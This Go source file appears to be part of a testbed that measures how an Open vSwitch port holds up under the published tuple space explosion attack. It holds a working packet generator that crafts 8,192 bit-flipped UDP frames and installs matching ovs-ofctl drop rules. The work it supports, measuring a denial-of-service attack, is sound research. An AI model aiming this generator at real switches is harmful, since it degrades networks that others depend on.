package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"sync"
	"time"
)

// The tuple space explosion (Csikor et al., "Tuple Space Explosion: A Denial-of-Service Attack Against a Software Packet
// Classifier", CoNEXT 2019): behind rules that allow one address and two ports, packets that differ from the allowed ones in one
// prefix bit of each need a mask for every combination of prefixes, and the packets of all others are looked up in all masks.
const (
	explosionRate = 1370 // packets a second: 0.7 Mbit/s of 64 bytes
	allowedAddr   = 0x0a4d0063
	allowedSrc    = 443
	allowedDst    = 80
)

// explosionRules are the attacker's port's, in the syntax of ovs-ofctl.
func explosionRules() []string {
	return []string{
		fmt.Sprintf("priority=40,in_port=2,udp,nw_src=10.77.0.%d,actions=drop", allowedAddr&0xff),
		fmt.Sprintf("priority=30,in_port=2,udp,tp_dst=%d,actions=drop", allowedDst),
		fmt.Sprintf("priority=20,in_port=2,udp,tp_src=%d,actions=drop", allowedSrc),
		"priority=15,in_port=2,udp,actions=drop",
	}
}

// explosionFrames are one packet for every combination of prefixes: 32 of the address, 16 of each port.
func explosionFrames() []byte {
	be := binary.BigEndian
	buf := frames(32*16*16, func(i int) header {
		var h header
		be.PutUint32(h.src[:], allowedAddr^1<<(i%32))
		h.srcPort, h.dstPort = allowedSrc^1<<(i/32%16), allowedDst^1<<(i/512)
		h.ttl = 64
		return h
	})
	for p := buf; len(p) > 0; p = p[frameLen:] {
		copy(p, hostMAC[0])
		copy(p[6:], hostMAC[1])
	}
	return buf
}

// explosion is the share of its packets a second that a port keeps while another one explodes the tuple space.
func explosion(ctx context.Context, o *options, b *bed) ([]float64, error) {
	for _, r := range explosionRules() {
		if _, err := b.ctl.tool(ctx, "ovs-ofctl", "add-flow", "br0", r); err != nil {
			return nil, err
		}
	}
	defer func() {
		_, _ = b.ctl.tool(context.WithoutCancel(ctx), "ovs-ofctl", "del-flows", "br0", "udp,in_port=2")
		_ = b.ctl.purge(context.WithoutCancel(ctx))
	}()
	before, err := packets(o, b, 1000, flowOf)
	if err != nil {
		return nil, err
	}

	ctx, cancel := context.WithCancel(ctx)
	var attack sync.WaitGroup
	var failed error
	exploded := make(chan struct{}) // all combinations were sent once
	attack.Go(func() {
		failed = on(place{ns: b.hosts[1], cpu: -1}, func() error { return explode(ctx, exploded) })
	})
	select {
	case <-exploded:
	case <-time.After(time.Minute): // it failed
	}
	during, err := packets(o, b, 1000, flowOf)
	cancel()
	attack.Wait()
	if err == nil {
		err = failed
	}
	if err != nil {
		return nil, err
	}
	return []float64{during[0] / before[0]}, nil
}

// explode sends the packets round and round until ctx ends.
func explode(ctx context.Context, once chan<- struct{}) error {
	s, err := newSender(hostDevice, explosionFrames())
	if err != nil {
		close(once)
		return err
	}
	defer s.close()
	gap := uint64(time.Second / explosionRate)
	start := monotonic()
	for i := uint64(0); ctx.Err() == nil; i++ {
		if due := start + i*gap; monotonic() < due {
			nap(time.Duration(due - monotonic()))
		}
		if _, err := s.send(int(i)%s.n, 1); err != nil {
			return err
		}
		if i == uint64(s.n) {
			close(once)
		}
	}
	return nil
}
